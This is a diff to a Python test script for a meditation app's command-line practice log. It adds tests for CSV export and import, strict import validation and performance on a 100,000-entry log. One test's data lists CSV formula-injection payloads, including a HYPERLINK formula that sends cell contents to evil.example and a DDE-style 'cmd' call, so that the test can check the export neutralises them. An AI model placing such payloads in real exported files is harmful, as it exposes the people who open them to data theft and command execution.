@@ -3,7 +3,12 @@
 sit, a daemon sit stopped after some seconds and a guided meditation each appear once in
 `history --json` with their heard length and end reason; renders and previews appear
 nowhere; a sit whose daemon was killed is closed at the next start with what was heard;
-the CSV export round-trips through `history import`.
+the CSV export round-trips through `history import`; names from file tags cannot become
+spreadsheet formulas in the CSV, and still round-trip exactly; imports refuse what is not
+ours (a `scheduled` that is not true/false, the year 0000) whole, naming the line or
+record; `history --since` past the last entry says so, not that the log is empty; a log
+of 100,000 entries answers `history --limit 5` and `stats` in well under a second without
+growing the process (rows read by SQL pages and totals, not all loaded).
 
 Run from the repository root: python3 Tests/cli/practice-tests.py (BIN overrides the
 binary). Prints ok:/FAILED: lines and "N passed, N failed"; exits 1 on failure. Every
@@ -86,7 +91,172 @@ def wait_gone(pid, seconds=10):
     return False
 
 
+def entry_json(i, name="sit", teacher=None, scheduled=False, start="2026-11-24T07:00:00+01:00"):
+    return {"id": f"00000000-0000-4000-8000-{i:012d}", "kind": "guided" if teacher else "timer", "name": name,
+            "teacher": teacher, "preset": None, "meditationId": None, "start": start, "plannedSeconds": 600,
+            "heardSeconds": 600, "endReason": "completed", "scheduled": scheduled}
+
+
+def write(path, text):
+    with open(path, "w", encoding="utf-8") as f:
+        f.write(text)
+    return path
+
+
+def formula_cases():
+    """history --csv neutralises cells a spreadsheet would take for a formula; import undoes it."""
+    import csv
+    import io
+    names = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3",
+             "\tTab", "\rCR", "'=already quoted", "''@two quotes", "'plain quote", "plain", "a=b", "=", "'"]
+    c, other = Case(), Case()
+    try:
+        entries = [entry_json(i + 1, name=n, teacher=n if i % 2 else "T", start=f"2026-11-{i + 1:02d}T07:00:00+01:00")
+                   for i, n in enumerate(names)]
+        src = write(c.dir + "/in.json", json.dumps(entries))
+        rc, out, err = c.run("history", "import", src)
+        rc2, text, err2 = c.run("history", "--csv")
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        cells = [cell for row in rows[1:] for cell in row]
+        live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        by_id = {row[0]: row for row in rows[1:]}
+        first = by_id.get(entries[0]["id"], [""] * 4)
+        check(rc == 0 and rc2 == 0 and len(rows) == len(names) + 1 and not live and first[2] == "'" + names[0],
+              f"history --csv starts no cell with = + - @ tab or CR (a formula is prefixed with ') ({live[:3]}; {first[2:4]})")
+        path = write(c.dir + "/log.csv", text)
+        rc3, o3, e3 = other.run("history", "import", path)
+        back = {e["id"]: e for e in (other.history() or [])}
+        same = [(e["name"], e["teacher"]) == (back.get(e["id"], {}).get("name"), back.get(e["id"], {}).get("teacher"))
+                for e in entries]
+        rc4, text2, e4 = other.run("history", "--csv")
+        check(rc3 == 0 and all(same) and text2 == text,
+              f"export → import keeps every name and teacher exactly, quotes and all ({o3.strip()} {e3.strip()}; {same})")
+    finally:
+        c.close()
+        other.close()
+
+
+def strict_import_cases():
+    """Imports refuse what is not ours, whole, naming the line or record; out-of-range history says so."""
+    c = Case()
+    try:
+        good = [entry_json(1), entry_json(2, start="2026-11-25T07:00:00+01:00")]
+        rc, out, err = c.run("history", "import", write(c.dir + "/good.json", json.dumps(good)))
+        rc0, csv_text, err0 = c.run("history", "--csv")
+        before = c.history()
+        lines = csv_text.split("\r\n")
+        cases = []
+        for value in ["maybe", "2", "TRUE", "yes"]:
+            bad = lines[:]
+            bad[2] = bad[2].rsplit(",", 1)[0] + "," + value
+            new = [entry_json(3), entry_json(4, start="2026-11-26T07:00:00+01:00")]
+            bad = bad[:2] + [",".join(["00000000-0000-4000-8000-000000000003"] + bad[1].split(",")[1:])] + bad[2:]
+            cases.append((f"CSV scheduled '{value}'", "line 4", "\r\n".join(bad)))
+        for value in ["maybe", 2, 1, "true", None]:
+            recs = [entry_json(5), entry_json(6)]
+            recs[1]["scheduled"] = value
+            cases.append((f"JSON scheduled {value!r}", "record 2", json.dumps(recs)))
+        zero = lines[:]
+        zero[1] = zero[1].replace("2026-11-24T", "0000-11-24T")
+        cases.append(("CSV start in the year 0000", "line 2", "\r\n".join(zero)))
+        recs = [entry_json(7), entry_json(8), entry_json(9, start="0000-01-01T00:00:00Z")]
+        cases.append(("JSON start in the year 0000", "record 3", json.dumps(recs)))
+        for label, where, text in cases:
+            rc, out, err = c.run("history", "import", write(c.dir + "/bad.txt", text))
+            check(rc != 0 and len(err.strip().splitlines()) == 1 and where in err and c.history() == before,
+                  f"import refuses {label} in one line naming {where}, storing nothing (exit {rc}: {err.strip()})")
+        de = dict(c.env, LANG="de_DE.UTF-8")
+        p = subprocess.run([BIN, "history", "import", c.dir + "/bad.txt"], env=de, capture_output=True, timeout=60)
+        err = p.stderr.decode()
+        check(p.returncode != 0 and ("Datensatz 3" in err or "Zeile" in err) and "0000" in err, f"…and in German ({err.strip()})")
+
+        rc, out, err = c.run("history", "--since", "9999-12-31")
+        check(rc == 0 and "yet" not in out and "9999-12-31" in out,
+              f"history --since after the last entry says nothing is in that range, not that the log is empty ({out.strip()})")
+        rc, out, err = c.run("history", "--until", "1999-01-01")
+        check(rc == 0 and "yet" not in out and "1999-01-01" in out, f"…and so does --until before the first ({out.strip()})")
+        p = subprocess.run([BIN, "history", "--since", "2027-01-01", "--until", "2027-02-01"], env=de, capture_output=True, timeout=60)
+        out = p.stdout.decode()
+        check(p.returncode == 0 and "noch nichts" not in out and "2027" in out, f"…in German too ({out.strip()})")
+        empty = Case()
+        try:
+            rc, out, err = empty.run("history", "--since", "9999-12-31")
+            check(rc == 0 and out.strip() == "nothing in the practice log yet", f"an empty log is still called empty ({out.strip()})")
+        finally:
+            empty.close()
+    finally:
+        c.close()
+
+
+# Runs a command from a fresh, small Python (so the peak RSS the kernel reports for it is
+# not this test's own, which a child inherits until exec): prints "status maxrss-KB".
+MEASURE = """import os, sys
+pid = os.fork()
+if pid == 0:
+    fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
+    os.dup2(fd, 1)
+    os.execv(sys.argv[2], sys.argv[2:])
+_, status, usage = os.wait4(pid, 0)
+print(os.waitstatus_to_exitcode(status), usage.ru_maxrss)
+"""
+
+
+def peak_rss(c, *args):
+    """Wall seconds, peak RSS (KB), exit status and standard output of one run."""
+    out_path = c.dir + "/measured.out"
+    t0 = time.perf_counter()
+    p = subprocess.run([sys.executable, "-c", MEASURE, out_path, BIN, *args], env=c.env, capture_output=True, timeout=300)
+    wall = time.perf_counter() - t0
+    rc, rss = (int(x) for x in p.stdout.split())
+    with open(out_path, encoding="utf-8") as f:
+        return wall, rss, rc, f.read()
+
+
+def large_log_cases(n=100_000):
+    """A log of n entries written straight into the app's table: pages and numbers by SQL."""
+    import random
+    import sqlite3
+    c, empty = Case(), Case()
+    try:
+        c.run("history")                       # the store, migrated
+        r = random.Random(5)
+        now = int(time.time())
+        rows = [(f"{r.getrandbits(32):08x}-0000-4000-8000-{i:012d}", "timer", "sit", None, r.choice(["T", None]),
+                 r.choice(["morning", None]), now - (n - i) * 600, 3600, 600_000, 60_000 * (1 + i % 30), None, "completed", 0)
+                for i in range(n)]
+        with sqlite3.connect(c.dir + "/home/library.sqlite") as db:
+            db.executemany("INSERT INTO practice VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?)", rows)
+        last, total, morning = rows[-1][0], sum(row[9] for row in rows), sum(1 for row in rows if row[5])
+        del rows
+        empty.run("history")
+        base = min(peak_rss(empty, "stats")[1] for _ in range(2))
+        wall, rss, rc, out = min(peak_rss(c, "history", "--limit", "5") for _ in range(2))
+        lines = out.strip().splitlines()
+        check(rc == 0 and len(lines) == 5 and lines[-1].startswith(last[:8]) and wall < 1.0 and rss - base < 10_000,
+              f"history --limit 5 of {n:,} entries: the last 5, in {wall * 1000:.0f} ms, RSS {rss / 1024:.1f} MB "
+              f"({(rss - base) / 1024:+.1f} MB over an empty log)")
+        wall, rss, rc, out = min(peak_rss(c, "stats", "--json") for _ in range(2))
+        s = json.loads(out) if rc == 0 else {}
+        check(rc == 0 and s.get("all") == {"sits": n, "milliseconds": total} and s.get("longestMilliseconds") == 30 * 60_000
+              and s.get("byPreset", {}).get("morning", {}).get("sits") == morning and wall < 1.0
+              and rss - base < 10_000,
+              f"stats of {n:,} entries: every sit counted, in {wall * 1000:.0f} ms, RSS {rss / 1024:.1f} MB "
+              f"({(rss - base) / 1024:+.1f} MB over an empty log)")
+        wall, rss, rc, out = peak_rss(c, "history", "--json")
+        check(rc == 0 and len(json.loads(out)) == n and rss - base < 20_000,
+              f"history --json of {n:,} entries is streamed: RSS {rss / 1024:.1f} MB ({(rss - base) / 1024:+.1f} MB), {wall:.1f} s")
+    finally:
+        c.close()
+        empty.close()
+
+
 def main():
+    large_log_cases()
+    formula_cases()
+    strict_import_cases()
+    if os.environ.get("ONLY_NEW"):
+        print(f"{passed} passed, {failed} failed")
+        return 1 if failed else 0
     c = Case()
     try:
         tone = c.dir + "/tone.mp3"
